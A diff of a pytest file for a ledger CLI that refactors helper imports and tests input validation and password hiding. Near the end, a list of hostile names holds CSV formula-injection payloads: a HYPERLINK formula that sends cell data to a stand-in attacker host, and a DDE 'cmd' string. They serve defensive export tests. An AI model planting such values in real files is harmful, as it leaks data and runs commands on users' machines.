@@ -22,8 +22,7 @@ from typing import Any
 import pytest
 
 from ledger.app import Ledger
-from tests.cli.test_bad_input import populated  # noqa: F401 - the fixture
-from tests.conftest import POSTGRES_URL
+from tests.support.harness import POSTGRES_URL
 
 INVISIBLE = ["\u200b", "\u200b\u200c\u200d", "\ufeff\u2060", " \u3164 ", "\u202e\u200e", "\u0301", "\u2800", "\t\u00a0"]
 
@@ -66,7 +65,7 @@ TEXT_COMMANDS = [
 
 @pytest.mark.parametrize("text", INVISIBLE, ids=ascii)
 @pytest.mark.parametrize("option, args", TEXT_COMMANDS, ids=[f"{o}-{i}" for i, (o, _) in enumerate(TEXT_COMMANDS)])
-def test_text_of_invisible_characters_only_is_empty(populated, store, option, args, text):  # noqa: F811
+def test_text_of_invisible_characters_only_is_empty(populated, store, option, args, text):
     before = stored(store)
     assert refused(populated(*args(text))) == f"Invalid input: --{option} must not be empty."
     assert stored(store) == before
@@ -83,7 +82,7 @@ def claim_id_forms(claim: str) -> list[str]:
 
 
 @pytest.mark.parametrize("form", ["hyphens", "upper", "hex", "urn", "braces", "another", "another-upper"])
-def test_a_request_id_with_the_form_of_a_claim_id_is_refused(populated, store, form):  # noqa: F811
+def test_a_request_id_with_the_form_of_a_claim_id_is_refused(populated, store, form):
     claim = populated("--json", "claim", "show", "c-1").json()["claim"]
     u, other = uuid.UUID(claim), uuid.uuid4()
     key = {"hyphens": str(u), "upper": str(u).upper(), "hex": u.hex, "urn": u.urn, "braces": "{" + str(u) + "}",
@@ -96,7 +95,7 @@ def test_a_request_id_with_the_form_of_a_claim_id_is_refused(populated, store, f
     assert populated("--json", "claim", "show", "c-1").json()["claim"] == claim
 
 
-def test_an_import_line_with_a_uuid_request_id_is_refused(populated, store, tmp_path):  # noqa: F811
+def test_an_import_line_with_a_uuid_request_id_is_refused(populated, store, tmp_path):
     line = {"command": "professional register", "id": "R-8", "name": "N", "group": "nurse",
             "request_id": uuid.uuid4().urn}
     path = tmp_path / "in.jsonl"
@@ -120,7 +119,7 @@ CASE_VARIANTS = [
 
 
 @pytest.mark.parametrize("args, why", CASE_VARIANTS, ids=["professional", "reviewer", "network"])
-def test_an_id_that_differs_only_in_case_from_a_registered_one_is_refused(populated, store, args, why):  # noqa: F811
+def test_an_id_that_differs_only_in_case_from_a_registered_one_is_refused(populated, store, args, why):
     before = stored(store)
     result = populated("--json", *args)
     assert result.exit_code == 1 and result.stdout == "", result.stderr
@@ -235,7 +234,7 @@ def test_a_malformed_postgresql_url_is_invalid_input(run, url, as_json):
 @pytest.mark.postgres  # a server whose role takes any password
 @pytest.mark.parametrize("via_env", [False, True])
 def test_the_demo_prints_no_password(run, via_env, monkeypatch):
-    from tests.conftest import _drop_schema
+    from tests.support.harness import drop_schema
 
     schema = "t_" + uuid.uuid4().hex[:12]
     password = "Demo-Secret-4711"
@@ -252,7 +251,7 @@ def test_the_demo_prints_no_password(run, via_env, monkeypatch):
         hints = [line for line in result.stdout.splitlines() if line.startswith("  studyledger")]
         assert hints and all(("--db" in line) != via_env for line in hints if line != "  studyledger --help")
     finally:
-        _drop_schema(POSTGRES_URL, schema)
+        drop_schema(POSTGRES_URL, schema)
 
 
 # --- exports: CSV, DOT, tables, the digest --------------------------------------------------------
@@ -263,7 +262,7 @@ HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' 
 
 
 @pytest.fixture
-def hostile(populated):  # noqa: F811
+def hostile(populated):
     """The register, with a network and claim texts named as an attacker would; c-1 approved, then revoked."""
     for i, name in enumerate(HOSTILE_NAMES):
         assert populated("network", "register", f"evil-{i}", "--name", name, "--theme", "t", "--group", "nurse",
